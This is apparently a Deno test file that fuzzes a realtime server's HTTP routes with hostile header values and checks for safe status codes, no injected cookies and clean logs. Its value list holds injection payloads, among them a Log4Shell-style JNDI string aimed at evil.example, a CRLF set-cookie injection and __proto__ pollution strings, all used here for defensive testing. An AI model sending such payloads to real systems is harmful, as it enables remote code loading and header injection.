import assert from "node:assert/strict";
import { OPEN, type SlipstreamServer } from "../../src/mod.ts";
import { SECRET } from "../auth/tokens.ts";
import { withServer } from "../integration/harness.ts";
import { until } from "../until.ts";
import { dial, requestOf, statusOf } from "./raw_http.ts";

const KEY = "an-api-key-with-32-bytes-or-more";

const REQUESTS = [
  "GET /livez",
  "GET /readyz",
  "GET /metrics",
  "GET /",
  "GET /slipstream.js",
  "GET /rt/info",
  "GET /rt/ws",
  "GET /rt/sse",
  "GET /rt/sse?channel=chat:a",
  "POST /rt/send",
  "POST /rt/ticket",
  "OPTIONS /rt/send",
  "GET /api/info",
  "POST /api/publish",
  "DELETE /api/publish",
  "GET /rt/other",
];

/** What the routes look at, and what proxies and browsers add. */
const FIELDS = [
  "origin",
  "sec-fetch-site",
  "last-event-id",
  "authorization",
  "content-type",
  "slipstream-transport",
  "slipstream-resume",
  "sec-websocket-protocol",
  "sec-websocket-key",
  "sec-websocket-version",
  "upgrade",
  "x-forwarded-for",
  "forwarded",
  "if-none-match",
  "accept-encoding",
  "range",
  "cookie",
];

const VALUES = [
  "",
  "\t",
  "null",
  "a".repeat(4000),
  ",".repeat(1000),
  '"\\"\\\\',
  "\u0080\u009b2J\u00ff",
  "Bearer ",
  `Bearer ${"a.".repeat(2000)}`,
  "a b c d",
  "%0d%0aset-cookie: a=b",
  "${jndi:ldap://evil.example/a}",
  "__proto__",
  '{"chat:a":{"epoch":"__proto__","offset":-1}}',
  "https://localhost:99999",
  "websocket",
];

/** The status of the response to `request`, which is cut off once its head has come. */
async function statusFor(server: SlipstreamServer, request: string): Promise<number> {
  await using tcp = await dial(server);
  // One byte a character, as on the wire.
  await tcp.write(Uint8Array.from(request, (character) => character.charCodeAt(0)));
  await until(() => tcp.ended || tcp.received.includes("\r\n\r\n"), "the answer");
  assert.doesNotMatch(tcp.received, /^set-cookie/im);
  return statusOf(tcp.received);
}

Deno.test("no value of a header is more than the client's error, or reaches the log as it is", async () => {
  const options = {
    api: { keys: [KEY] },
    auth: { key: SECRET, anonymous: true },
    namespaces: { chat: { permissions: OPEN } },
    admission: {
      ratePerSecond: Infinity,
      ratePerSecondPerAddress: Infinity,
      maxSessionsPerAddress: Infinity,
    },
  };
  await withServer(options, async ({ server, log }) => {
    for (const line of REQUESTS) {
      await Promise.all(FIELDS.flatMap((field) =>
        VALUES.map(async (value) => {
          const status = await statusFor(server, requestOf(server, line, { [field]: value }));
          assert.ok(status >= 101 && status < 500, `${line}, ${field}: ${value}: ${status}`);
        })
      ));
    }
    assert.equal(log.some((line) => line.startsWith("error")), false, log.join("\n"));
    // What may be in a line: printable ASCII.
    for (const line of log) assert.match(line, /^[ -~]*$/);
    await until(() => server.transports === 0, "the end of all");
  });
});
